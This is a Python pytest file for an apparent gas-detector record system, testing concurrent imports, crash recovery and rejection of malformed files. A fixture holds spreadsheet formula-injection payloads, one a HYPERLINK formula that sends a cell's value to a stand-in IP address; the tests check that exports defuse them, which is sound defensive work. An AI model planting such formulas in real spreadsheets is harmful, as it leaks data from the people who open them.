"""Two programs at once, a pulled plug, spreadsheets that bite: nothing is lost, doubled, or half there."""

from __future__ import annotations

import csv
import io
import itertools
import multiprocessing
import os
import signal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import event

from gaswitness.errors import InputFaults
from gaswitness.history import schema
from gaswitness.history.intake import parcel_of
from gaswitness.history.register import operators_of, records_csv, register_xlsx
from gaswitness.history.store import open_store
from support.kept import NOW, bundled
from support.postgres import server
from support.years import table


@pytest.fixture(scope="module")
def postgres():
    with server() as address:
        yield address


def _import_all(url: str, parcels: list[tuple[bytes, str]], start: object, results: object) -> None:
    start.wait()  # type: ignore[attr-defined]
    try:
        with open_store(url, make=True) as store:
            for data, name in parcels:
                store.keep(parcel_of(data, name), now=NOW)
        results.put("done")  # type: ignore[attr-defined]
    except BaseException as error:
        results.put(f"{type(error).__name__}: {error}")  # type: ignore[attr-defined]


@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_programs_that_import_the_same_at_once(request, tmp_path, kind):
    """Four of them begin with an empty database at the same moment, each with the same files in another order."""
    url = str(tmp_path / "s.db") if kind == "sqlite" else f"{request.getfixturevalue('postgres')}/postgres"
    parcels = [(bundled("R1", "2026-03-02"), "1.zip"), (bundled("R2", "2026-04-02"), "2.zip"), (table(), "old.csv")]
    context = multiprocessing.get_context("fork")
    start, results = context.Event(), context.Queue()
    programs = [
        context.Process(target=_import_all, args=(url, parcels[n % 3 :] + parcels[: n % 3], start, results))
        for n in range(4)
    ]
    for program in programs:
        program.start()
    start.set()
    assert [results.get(timeout=120) for _ in programs] == ["done"] * 4
    for program in programs:
        program.join()
    with open_store(url) as store:
        assert len(store.originals()) == 3
        assert len(store.rows("visit")) == 72
        assert len(store.tested()) == 4 + 70
        assert len(store.rows("certificate")) == 2


def _big_table(rows: int) -> bytes:
    head = "site,date,tag,gas,outcome,unit,gas value,span found\n"
    return (head + "".join(f"S,{1990 + n // 300}-01-01,A-{n % 300},CO,pass,ppm,100,99\n" for n in range(rows))).encode()


def _import_and_die(url: str, data: bytes, name: str, at: int) -> None:
    """Keep a file, and pull the plug at the n-th statement."""
    count = itertools.count(1)

    def plug(*_: object) -> None:
        if next(count) == at:
            os.kill(os.getpid(), signal.SIGKILL)

    with open_store(url) as store:
        event.listen(store._engine, "before_cursor_execute", plug)
        event.listen(store._engine, "commit", plug)
        store.keep(parcel_of(data, name), now=NOW)


def test_a_pulled_plug_while_importing(tmp_path):
    """Killed at each statement in turn: the file is there whole or not at all, and the next import goes on."""
    url, data = str(tmp_path / "s.db"), _big_table(400)
    open_store(url, make=True).close()
    context = multiprocessing.get_context("fork")
    for at in range(1, 40):
        program = context.Process(target=_import_and_die, args=(url, data, "big.csv", at))
        program.start()
        program.join(60)
        with open_store(url) as store:
            visits, files = len(store.rows("visit")), len(store.originals())
        if program.exitcode == 0:
            break
        assert program.exitcode == -signal.SIGKILL
        assert (visits, files) == (0, 0)
    assert at > 5, "it was killed in the middle of things"
    assert (visits, files) == (400, 1)
    with open_store(url) as store:
        assert store.keep(parcel_of(data, "big.csv"), now=NOW).state == "known"


FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'


@pytest.fixture
def bitten(tmp_path):
    """A store with text in it that a spreadsheet program would take for a formula."""
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(["site", "date", "tag", "gas", "outcome", "by", "note"])
    for n, text in enumerate([FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "'=1", "plain", "Ünïcode − ₃"]):
        writer.writerow([f"S{n}", "2024-01-01", "A", "CO", "pass", text.strip(), text.strip()])
    with open_store(str(tmp_path / "s.db"), make=True) as store:
        store.keep(parcel_of(out.getvalue().encode(), "old.csv"), now=NOW)
        yield store


def test_no_cell_of_a_csv_is_a_formula(bitten):
    data = records_csv(bitten.tested(), operators_of(bitten))
    for row in csv.reader(io.StringIO(data.decode(), newline="")):
        for cell in row:
            assert cell[:1] not in "=+-@\t\r" or cell == ""


def test_no_cell_of_a_register_is_a_formula(bitten):
    data = register_xlsx(bitten, bitten.tested(), [], NOW.date())
    book = load_workbook(io.BytesIO(data))
    types = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in types
    assert any(cell.value == FORMULA for row in book["Tests"].iter_rows() for cell in row)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_text_that_bites_comes_back_as_it_was(bitten, tmp_path, kind):
    tests = bitten.tested()
    data = records_csv(tests, {}) if kind == "csv" else register_xlsx(bitten, tests, [], NOW.date())
    with open_store(str(tmp_path / "other.db"), make=True) as other:
        other.keep(parcel_of(data, f"register.{kind}"), now=NOW)
        assert sorted(test.note for test in other.tested()) == sorted(test.note for test in tests)


def test_a_formula_in_a_table_is_refused():
    book = Workbook()
    book.active.append(["site", "date", "tag", "gas", "outcome"])
    book.active.append(["S", "2024-01-01", "A", "CO", '=IF(1,"pass","fail")'])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(InputFaults, match=r"row 2: found the formula"):
        parcel_of(out.getvalue(), "old.xlsx")


@pytest.mark.parametrize(
    "data",
    [
        b"\x00\x01\x02" * 50,
        b"PK\x03\x04 not a zip",
        b"site,date\n\xff\xfe\xfa",
        b'site,date,tag,gas,outcome\n"S,2024-01-01,A,CO,pass\n',
        b"site;date;tag;gas;outcome\nS;2024-01-01;A;CO;pass;more;and more\n",
        b"just words\n",
        b"site,date,tag,gas,outcome\nS,2024-01-01,A,CO,pass\x07\n",
        b"site,site,date,tag,gas,outcome\nS,S,2024-01-01,A,CO,pass\n",
    ],
)
def test_broken_tables_get_one_message_and_leave_nothing(tmp_path, data):
    with open_store(str(tmp_path / "s.db"), make=True) as store:
        with pytest.raises(InputFaults):
            store.keep(parcel_of(data, "old.csv"), now=NOW)
        assert all(store.rows(name) == [] for name in schema.metadata.tables)
